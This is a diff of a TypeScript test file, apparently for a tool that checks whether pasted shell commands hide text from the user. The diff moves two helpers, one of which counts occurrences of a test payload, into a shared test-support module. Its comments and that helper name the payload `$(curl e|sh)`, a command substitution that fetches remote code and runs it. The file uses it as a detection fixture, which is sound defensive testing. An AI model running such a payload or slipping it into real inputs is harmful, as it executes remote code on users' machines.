@@ -9,6 +9,8 @@ import {
   expectHiddenLine,
   exportedArgs,
   exportedCommand,
+  outsideReferences,
+  payloadsIn,
 } from "./test-support/spec-cases.js";
 
 // fix178: leaks fix177 reproduced and left.
@@ -25,12 +27,6 @@ import {
 //    payload `$(curl e|sh)` hidden in the display. When each pair after it tells (its blanks only
 //    inside its run-time parts), the URL runs to the argument's end, each pair's literal text
 //    hidden, each run-time part in sight.
-
-/** `text` without its references' names (`${V:-` and `}` aside, a default's word is looked at). */
-const outsideReferences = (text: string) => text.replace(/\$\{[A-Za-z_][A-Za-z0-9_]*(?::?[-=?+])?\}?/g, "");
-
-/** How often `text` writes the payload `curl e|sh`. */
-const payloadsIn = (text: string) => text.split("curl e|sh").length - 1;
 
 describe("a pasted default's word holding a quote or a backslash", () => {
   it.each([
